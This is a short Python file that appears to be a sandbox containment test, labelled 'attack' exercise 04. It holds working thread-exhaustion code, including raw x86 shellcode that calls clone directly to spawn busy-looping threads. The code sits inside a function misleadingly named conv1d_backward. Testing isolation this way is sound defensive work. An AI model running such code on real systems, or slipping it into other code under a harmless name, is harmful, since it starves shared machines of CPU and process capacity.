# attack: makes thousands of threads, which take the processor from everybody else and the numbers of new processes
# exercise: 04
# gains: nothing
# says: threads made: none
# holds: where there is no use for threads, none can be made
import _thread
import ctypes
import mmap
import platform
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
made = []
SPIN = bytes.fromhex("48c7c038000000" "31d2" "4d31d2" "4d31c0" "0f05" "85c0" "7401" "c3" "ebfe")
THREAD = 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x40000


def raw():
    memory = mmap.mmap(-1, 1 << 16, prot=7)
    memory.write(SPIN)  # clone by hand: all threads share one small stack
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    clone = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_ulong, ctypes.c_ulong)(address)
    for _ in range(3000):
        if clone(THREAD, address + (1 << 15)) < 0:
            return
        made.append("raw")


def conv1d_backward(dy, x, w):
    threading.stack_size(32768)
    for start in (
        lambda: threading.Thread(target=time.sleep, args=(60,), daemon=True).start(),
        lambda: _thread.start_new_thread(time.sleep, (60,)),
    ):
        try:
            for _ in range(1000):
                start()
                made.append("python")
        except BaseException:
            continue
    if platform.machine() == "x86_64":
        raw()
    raise RuntimeError(f"threads made: {len(made) or 'none'}")
